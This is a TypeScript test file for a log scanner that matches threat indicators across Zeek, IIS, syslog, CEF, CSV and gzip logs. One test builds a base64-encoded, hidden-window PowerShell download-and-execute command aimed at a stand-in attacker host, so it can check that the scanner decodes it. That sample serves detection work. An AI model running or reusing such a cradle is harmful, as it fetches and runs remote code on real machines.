import { Readable } from 'node:stream';
import { constants, gunzipSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { IndicatorMatcher } from '../match/matcher.js';
import { detectFormat } from './detect.js';
import { fieldAt, jsonPath } from './fields.js';
import { scanLog } from './reader.js';
import { EVENT_DOMAIN, EVENT_HEADER, EVENT_IP, eventCsv } from '../../../test/helpers/event-csv.js';

const fmt = (text: string): string => detectFormat(Buffer.from(text)).name;

describe('detectFormat', () => {
  it.each([
    ['#separator \\x09\n#fields\tts\tquery\n1\ta.b\n', 'zeek-tsv'],
    ['{"ts":1,"query":"a.b"}\n', 'json'],
    ['#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2026-01-01 00:00:00\r\n#Fields: date time c-ip cs-uri-stem\r\n2026-01-01 00:00:01 10.0.0.5 /x\r\n', 'w3c'],
    ['#Version: 1.0\n#Software: Microsoft Windows Firewall\n#Time Format: Local\n#Fields: date time action protocol src-ip dst-ip\n', 'w3c'],
    ['#Software: something\nno fields directive here\n', 'text'],
    ['1700000000.123    120 10.0.0.5 TCP_MISS/200 512 GET http://a.b/ - HIER_DIRECT/10.0.0.1 text/html\n', 'squid'],
    ['10.0.0.5 - - [01/Jan/2026:00:00:01 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"\n', 'access'],
    ['Jan  1 00:00:01 dnsmasq[1]: query[A] a.b from 10.0.0.5\n', 'dns'],
    ['01-Jan-2026 00:00:01.000 queries: info: client @0x1 10.0.0.5#1 (a.b): query: a.b IN A +\n', 'dns'],
    ['Jan  1 00:00:01 host sshd[1]: hello\n', 'syslog'],
    ['<34>1 2026-01-01T00:00:01Z host app - - - hello\n', 'syslog'],
    ['time,client,url\n1,10.0.0.5,http://a.b/\n2,10.0.0.6,http://c.d/\n', 'csv'],
    ['just some words\nand more\n', 'text'],
    ['', 'text'],
  ])('%j → %s', (text, want) => {
    expect(fmt(text)).toBe(want);
  });
});

describe('fieldAt', () => {
  it('names JSON key paths, with arrays', () => {
    const line = Buffer.from('{"a":{"b":"x","c":["y","evil"]},"d":"z"}');
    expect(jsonPath(line, 0, line.length, line.indexOf('evil'))).toBe('a.c[1]');
    expect(jsonPath(line, 0, line.length, line.indexOf('z'))).toBe('d');
    expect(jsonPath(line, 0, line.length, line.indexOf('x'))).toBe('a.b');
  });
  it('names CSV columns past quoted commas and access-log fields past brackets', () => {
    const csv = detectFormat(Buffer.from('t,msg,url\n1,x,y\n'));
    const line = Buffer.from('1,"a, b",http://evil.example/');
    expect(fieldAt(csv, line, 0, line.length, line.indexOf('http'))).toBe('url');
    const acc = detectFormat(Buffer.from('10.0.0.5 - - [01/Jan/2026:00:00:01 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"\n'));
    const l2 = Buffer.from('10.0.0.5 - - [01/Jan/2026:00:00:01 +0000] "GET /x HTTP/1.1" 200 5 "http://r.example/" "curl/8 evil"');
    expect(fieldAt(acc, l2, 0, l2.length, l2.indexOf('http://r'))).toBe('referrer');
    expect(fieldAt(acc, l2, 0, l2.length, l2.indexOf('evil'))).toBe('user_agent');
  });
});

describe('key=value fields in syslog and text lines', () => {
  const at = (line: string, needle: string, nth = 0): string | null => {
    const b = Buffer.from(line);
    let o = -1;
    for (let k = 0; k <= nth; k++) o = b.indexOf(needle, o + 1);
    return fieldAt(detectFormat(Buffer.from(`${line}\n`)), b, 0, b.length, o);
  };
  it('names the key of the pair a hit is in (FortiGate, CEF), quoted values with spaces included; null in free text', () => {
    const fgt = 'Jan  1 00:00:01 fgt60f date=2026-01-01 time=00:00:01 devname="FGT60F" srcip=10.1.2.3 dstip=45.86.12.34 hostname="upd.evil.example" url="/a?x=1&y=45.86.12.34" msg="URL belongs to a denied category in policy evil.example" action=blocked';
    expect(at(fgt, '45.86.12.34')).toBe('dstip');
    expect(at(fgt, 'upd.evil.example')).toBe('hostname');
    expect(at(fgt, '45.86.12.34', 1)).toBe('url');
    expect(at(fgt, 'evil.example', 1)).toBe('msg');
    expect(at(fgt, 'blocked')).toBe('action');
    const cef = 'CEF:0|Vendor|NGFW|1.0|100|threat|5|src=10.0.0.5 dst=45.86.12.34 request=http://evil.example/a?b=c cs1Label=rule cs1=block evil';
    expect(at(cef, '45.86.12.34')).toBe('dst');
    expect(at(cef, 'evil.example')).toBe('request');
    expect(at(cef, 'evil', 1)).toBe(null);
    expect(at('Jan  1 00:00:01 ws-101 kernel: audit: connection to evil.example blocked', 'evil.example')).toBe(null);
    expect(at('just text with a=b and evil.example', 'evil.example')).toBe(null);
  });
});

describe('scanLog', () => {
  const m = new IndicatorMatcher([{ type: 'domain', value: 'evil.example', raw: 'evil.example', source: 's', source_title: 't' }]);

  it('finds indicators inside PowerShell encoded commands, at the base64, with the decoded command as context', async () => {
    const b64 = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://cdn.evil.example/a.ps1')", 'utf16le').toString('base64');
    const lines = [
      `{"EventID":1,"CommandLine":"powershell.exe -nop -w hidden -enc ${b64}","User":"bob"}`,
      `{"EventID":1,"CommandLine":"cmd /c \\"powershell -EncodedCommand \\"${b64}\\"\\""}`,
      `{"EventID":1,"CommandLine":"powershell -ExecutionPolicy ${b64}"}`,
      `{"EventID":1,"CommandLine":"grep -e evil.example"}`,
    ];
    const r = await scanLog(Readable.from([Buffer.from(lines.join('\n'))]), m, { file: 'sysmon.jsonl' });
    expect(r.hits.map((h) => [h.line, h.field, h.offset, h.match])).toEqual([
      [1, 'CommandLine', lines[0]!.indexOf(b64), 'subdomain'],
      [2, 'CommandLine', lines.slice(0, 1).join('\n').length + 1 + lines[1]!.indexOf(b64), 'subdomain'],
      [4, 'CommandLine', lines.slice(0, 3).join('\n').length + 1 + lines[3]!.indexOf('evil.example'), 'exact'],
    ]);
    expect(r.hits[0]!.context).toBe("decoded -EncodedCommand: IEX (New-Object Net.WebClient).DownloadString('http://cdn.evil.example/a.ps1')");
  });

  it('stays linear on lines full of switches and base64', async () => {
    const text = `${' -e '.repeat(200_000)}${' -enc '.repeat(100_000)}${'QQBB'.repeat(250_000)}\n`;
    const t0 = performance.now();
    const r = await scanLog(Readable.from([Buffer.from(text)]), m, { file: 'x.log' });
    expect(r.hits).toEqual([]);
    expect(performance.now() - t0).toBeLessThan(10_000);
  });

  it('names W3C columns (IIS, Windows Firewall), and the new ones after a restart repeats the directives', async () => {
    const text = [
      '#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', '#Date: 2026-01-01 00:00:00',
      '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) cs(Referer) sc-status',
      '2026-01-01 00:00:01 10.0.0.10 GET /default.aspx - 10.1.2.3 Mozilla/5.0+(Windows+NT+10.0) http://x.evil.example/a 200',
      '#Software: Microsoft Internet Information Services 10.0', '#Fields: date time c-ip cs-uri-stem cs(Referer)',
      '2026-01-01 01:00:00 10.1.2.3 /upload.aspx http://evil.example/',
      '#Fields: date time evil.example',
    ].join('\r\n');
    const r = await scanLog(Readable.from([Buffer.from(text)]), m, { file: 'u_ex260101.log' });
    expect(r.format?.name).toBe('w3c');
    expect(r.hits.map((h) => [h.line, h.field, h.match])).toEqual([[5, 'cs(Referer)', 'subdomain'], [8, 'cs(Referer)', 'exact']]);
  });

  it('numbers lines and byte offsets across chunks, CRLF and gzip', async () => {
    const text = 'a\r\nb evil.example\r\n\r\nc x.evil.example';
    const chunks = [Buffer.from(text.slice(0, 5)), Buffer.from(text.slice(5, 17)), Buffer.from(text.slice(17))];
    const r = await scanLog(Readable.from(chunks), m, { file: 'f' });
    expect(r.hits.map((h) => [h.line, h.offset, h.match, h.context])).toEqual([
      [2, 5, 'exact', 'b evil.example'],
      [4, 23, 'subdomain', 'c x.evil.example'],
    ]);
    const gz = await scanLog(Readable.from([gzipSync(text)]), m, { file: 'f.gz' });
    expect(gz.hits.map((h) => [h.line, h.offset])).toEqual([[2, 5], [4, 23]]);
  });

  it('cuts over-long lines with a warning and keeps memory bounded', async () => {
    const long = `${'x'.repeat(100_000)} evil.example ${'y'.repeat(5000)}\nnext evil.example\n`;
    const b = Buffer.from(long);
    const pieces = Array.from({ length: Math.ceil(b.length / 4096) }, (_, i) => b.subarray(i * 4096, i * 4096 + 4096));
    const r = await scanLog(Readable.from(pieces), m, { file: 'f', maxLine: 1024 });
    expect(r.warnings.map((w) => w.code)).toEqual(['long-line']);
    expect(r.hits.map((h) => h.line)).toEqual([1, 2]);
    expect(r.hits[0]?.context.length).toBeLessThanOrEqual(302);
  });

  it('cuts over-long lines between words: every match found once, at its offset, and no false one', async () => {
    // Words of varying length so that cuts fall everywhere; traps that a cut inside a word would turn
    // into hits (`notevil.example` cut after `not`, `evil.example.au` cut before `.au`).
    const words: string[] = [];
    for (let i = 0; i < 9000; i++) words.push(i % 3 === 0 ? 'evil.example' : i % 3 === 1 ? `notevil.example${'q'.repeat(i % 11)}` : `evil.example.au/${'z'.repeat(i % 13)}`);
    const line = `${words.join(' ')}\n`;
    const b = Buffer.from(line);
    const want: number[] = [];
    for (let at = line.indexOf('evil.example '); at !== -1; at = line.indexOf('evil.example ', at + 1)) if (line[at - 1] === ' ' || at === 0) want.push(at);
    for (const size of [7, 100, 4096]) {
      const pieces = Array.from({ length: Math.ceil(b.length / size) }, (_, i) => b.subarray(i * size, i * size + size));
      const r = await scanLog(Readable.from(pieces), m, { file: 'f', maxLine: 256, maxHits: 0 });
      expect(r.warnings.map((w) => w.code)).toEqual(['long-line']);
      expect(r.hits.map((h) => h.offset)).toEqual(want);
      expect(r.hits.every((h) => h.line === 1 && h.match === 'exact')).toBe(true);
    }
    // No space or quote at all: cut at the limit, and the scan still ends.
    const solid = Buffer.from(`${'a'.repeat(10_000)}\nnext evil.example\n`);
    const r = await scanLog(Readable.from([solid]), m, { file: 'f', maxLine: 256 });
    expect(r.hits.map((h) => [h.line, h.offset])).toEqual([[2, 10_006]]);
  });

  it('returns a warning, not a crash, on corrupt gzip', async () => {
    const bad = Buffer.concat([gzipSync('evil.example\n').subarray(0, 12), Buffer.from('garbage')]);
    const r = await scanLog(Readable.from([bad]), m, { file: 'bad.gz' });
    expect(r.warnings.map((w) => w.code)).toEqual(['read-error']);
  });

  // A gzip log whose trailer is damaged, or which was cut short, still yields every line decoded before
  // the damage (zlib drops what it holds back when the last call fails), plus a warning.
  const lines = Array.from({ length: 20_000 }, (_, i) => `GET http://evil.example/${i % 7} 200\n`).join('');
  const gz = gzipSync(lines);

  it('reads every line of a gzip log whose length trailer is wrong, with a warning', async () => {
    const lying = Buffer.from(gz);
    lying.writeUInt32LE(0xfffffff0, lying.length - 4);
    for (const chunks of [[lying], [lying.subarray(0, 1000), lying.subarray(1000)]]) {
      const r = await scanLog(Readable.from(chunks), m, { file: 'lying.gz' });
      // Every line read: the first 1000 hits listed, the rest counted.
      expect(r.hits).toHaveLength(1000);
      expect(r.unlisted).toEqual([{ indicator: 'evil.example', type: 'domain', source: expect.any(String), count: 19_000, matches: ['exact'] }]);
      expect(r.warnings.map((w) => w.code)).toEqual(['read-error']);
    }
  });

  it('reads a cut gzip log as far as zlib can decode it, with a warning', async () => {
    const cut = gz.subarray(0, Math.floor(gz.length / 2));
    const decodable = gunzipSync(cut, { finishFlush: constants.Z_SYNC_FLUSH }).toString('latin1');
    const want = decodable.split('\n').filter((l) => l.includes('evil.example')).length;
    const r = await scanLog(Readable.from([cut]), m, { file: 'cut.gz', maxHits: 0 });
    expect(want).toBeGreaterThan(0);
    expect(r.hits).toHaveLength(want);
    expect(r.unlisted).toEqual([]);
    expect(r.warnings.map((w) => w.code)).toEqual(['read-error']);
  });
});

describe('CSV rows whose quoted cells span lines', () => {
  const m = new IndicatorMatcher([
    { type: 'ipv4', value: EVENT_IP, raw: EVENT_IP, source: 's', source_title: 't' },
    { type: 'domain', value: EVENT_DOMAIN, raw: EVENT_DOMAIN, source: 's', source_title: 't' },
  ]);
  /** The bytes of `b` in pieces of `size` bytes (the reader's chunk boundaries fall everywhere). */
  const pieces = (b: Buffer, size: number): Buffer[] => Array.from({ length: Math.ceil(b.length / size) }, (_, i) => b.subarray(i * size, i * size + size));
  const brief = 'time,src,dst,note\n1,10.0.0.1,45.86.12.34,"multi\nline note with evil-c2.net"\n2,10.0.0.2,8.8.4.4,x\n3,10.0.0.3,9.9.9.9,"evil-c2.net"\n';

  it('detects such a CSV by its rows, not its lines', () => {
    expect(detectFormat(Buffer.from(brief))).toMatchObject({ name: 'csv', fields: ['time', 'src', 'dst', 'note'] });
    const ev = eventCsv(20);
    expect(detectFormat(Buffer.from(ev.text))).toMatchObject({ name: 'csv', fields: EVENT_HEADER });
    // A row of 40 lines (past the 12 lines the other formats look at); a head cut inside a long row:
    // the rows before it decide.
    expect(fmt(`a,b,c\n1,2,3\n4,"${'more, words\n'.repeat(40)}",6\n`)).toBe('csv');
    const cutHead = Buffer.from(`a,b,c\n1,"x\ny",3\n4,"${Array.from({ length: 60 }, () => 'w, '.repeat(400)).join('\n')}",6\n`);
    expect(detectFormat(cutHead.subarray(0, 65536)).name).toBe('csv');
    // Rows still short of cells, a quote that never closes, lines that are not rows: not CSV; other formats stay.
    expect(fmt('a,b,c\n1,"x\ny",3,4\n')).toBe('text');
    // Event Viewer's "Save as CSV": every row one cell more than the header (the message); hits there are `column 6`.
    expect(detectFormat(Buffer.from('Level,Date and Time,Source,Event ID,Task Category\nInformation,1/1/2026,Sysmon,3,Net,"msg\nmore"\nInformation,1/1/2026,Sysmon,1,Proc,"x"\n'))).toMatchObject({ name: 'csv', fields: ['Level', 'Date and Time', 'Source', 'Event ID', 'Task Category'] });
    expect(fmt('a,b,c\n1,2,3,4\n5,6,7\n')).toBe('text');
    expect(fmt(`a,b,c\n1,"x\n${'y\n'.repeat(70)}`)).toBe('text');
    expect(fmt('name,comment\nbob,"this is\nnot closed, and, more\n')).toBe('text');
    expect(fmt('Jan  1 00:00:01 host app: a "quote\nJan  1 00:00:02 host app: b\n')).toBe('syslog');
  });

  it('names a column past the header `column N` (Event Viewer writes the message there)', async () => {
    const text = 'Level,Date and Time,Source,Event ID,Task Category\nInformation,1/1/2026,Sysmon,3,Net,"Network connection:\nDestinationIp: 203.0.113.7"\nInformation,1/1/2026,Sysmon,1,Proc,"x"\n';
    const mm = new IndicatorMatcher([{ type: 'ipv4', value: '203.0.113.7', raw: '203.0.113.7', source: 's', source_title: 't' }]);
    const r = await scanLog(Readable.from([Buffer.from(text)]), mm, { file: 'events.csv' });
    expect(r.hits.map((h) => [h.line, h.field])).toEqual([[3, 'column 6']]);
  });

  it('names the column of hits inside and after a multi-line cell, keeping the physical line and offset, whatever the chunks', async () => {
    const want = [[2, 'dst', 29, '1,10.0.0.1,45.86.12.34,"multi'], [3, 'note', 63, 'line note with evil-c2.net"'], [5, 'note', 117, '3,10.0.0.3,9.9.9.9,"evil-c2.net"']];
    for (const size of [1, 2, 5, 13, 4096]) {
      const r = await scanLog(Readable.from(pieces(Buffer.from(brief), size)), m, { file: 'f' });
      expect(r.format?.name).toBe('csv');
      expect(r.hits.map((h) => [h.line, h.field, h.offset, h.context])).toEqual(want);
    }
    const ev = eventCsv(200);
    const want2 = ev.hits.map((h) => [h.line, h.field, h.indicator]);
    for (const size of [1, 7, 64, 1000, 1 << 20]) {
      const r = await scanLog(Readable.from(pieces(Buffer.from(ev.text), size)), m, { file: 'f', maxHits: 0 });
      expect(r.hits.map((h) => [h.line, h.field, h.indicator])).toEqual(want2);
      // Offsets are the file's bytes (the text is ASCII): each at its token.
      for (const h of r.hits) expect(ev.text.slice(h.offset as number, (h.offset as number) + 20)).toMatch(h.type === 'ipv4' ? /^45\.86\.12\.34/ : /^h\d+\.evil-c2\.net/);
    }
    // Each hit's context is its own physical line.
    const one = await scanLog(Readable.from([Buffer.from(ev.text)]), m, { file: 'f', maxHits: 0 });
    for (const h of one.hits) expect(ev.text.split('\r\n')[(h.line as number) - 1]).toBe(h.context);
  });

  it('reads a stray quote as a row of one line and the lines after it as rows of their own', async () => {
    const ev = eventCsv(120, [50, 90]);
    const want = ev.hits.map((h) => [h.line, h.field, h.indicator]);
    for (const size of [3, 333, 1 << 20]) {
      const r = await scanLog(Readable.from(pieces(Buffer.from(ev.text), size)), m, { file: 'f', maxHits: 0 });
      expect(r.hits.map((h) => [h.line, h.field, h.indicator])).toEqual(want);
    }
    // A quote left open at the end of the log: the lines after it are rows of their own.
    const tail = `time,src,dst,note\n1,10.0.0.1,9.9.9.9,"open\n2,10.0.0.2,${EVENT_IP},x\n3,${EVENT_IP},1.1.1.1,y\n`;
    const r = await scanLog(Readable.from([Buffer.from(tail)]), m, { file: 'f', format: detectFormat(Buffer.from('time,src,dst,note\n1,2,3,4\n')) });
    expect(r.hits.map((h) => [h.line, h.field])).toEqual([[3, 'dst'], [4, 'src']]);
  });

  it('survives hostile CSV: a quote on every line, no newline at all, an open quote in a huge line', async () => {
    const f = detectFormat(Buffer.from('a,b,c\n1,2,3\n'));
    // Each line opens or closes a row: rows of two lines, every hit found once.
    const every = `a,b,c\n${Array.from({ length: 5000 }, (_, i) => (i % 2 === 0 ? `${i},"${EVENT_IP}` : `x",${EVENT_IP}`)).join('\n')}\n`;
    const r1 = await scanLog(Readable.from(pieces(Buffer.from(every), 4096)), m, { file: 'f', format: f, maxHits: 0 });
    expect(r1.hits.map((h) => h.field)).toEqual(Array.from({ length: 5000 }, (_, i) => (i % 2 === 0 ? 'b' : 'c')));
    // One huge line with an open quote and commas, cut in pieces: every hit, columns counted across pieces.
    const huge = `a,b,c\n1,"${`x, ${EVENT_IP} `.repeat(20_000)}\n2,3,${EVENT_IP}\n`;
    const r2 = await scanLog(Readable.from(pieces(Buffer.from(huge), 5000)), m, { file: 'f', format: f, maxLine: 4096, maxHits: 0 });
    expect(r2.hits).toHaveLength(20_001);
    expect(r2.hits.slice(0, -1).every((h) => h.field === 'b' && h.line === 2)).toBe(true);
    expect(r2.hits.at(-1)).toMatchObject({ line: 3, field: 'c' });
    // No newline at all.
    const flat = `a,b,c\n1,"${'q"'.repeat(50_000)}${EVENT_IP}`;
    const r3 = await scanLog(Readable.from(pieces(Buffer.from(flat), 7000)), m, { file: 'f', format: f, maxLine: 8192 });
    expect(r3.hits.map((h) => h.line)).toEqual([2]);
  });

  it('counts columns across the pieces of an over-long line inside a multi-line row', async () => {
    const text = `time,src,dst,note\n1,10.0.0.1,9.9.9.9,"first line\n${'a, b, '.repeat(2000)} ${EVENT_DOMAIN} ${'c, d, '.repeat(2000)}"\n2,10.0.0.2,${EVENT_IP},x\n`;
    for (const size of [100, 4096]) {
      const r = await scanLog(Readable.from(pieces(Buffer.from(text), size)), m, { file: 'f', maxLine: 1024 });
      expect(r.format?.name).toBe('csv');
      expect(r.hits.map((h) => [h.line, h.field])).toEqual([[3, 'note'], [4, 'dst']]);
    }
  });
});
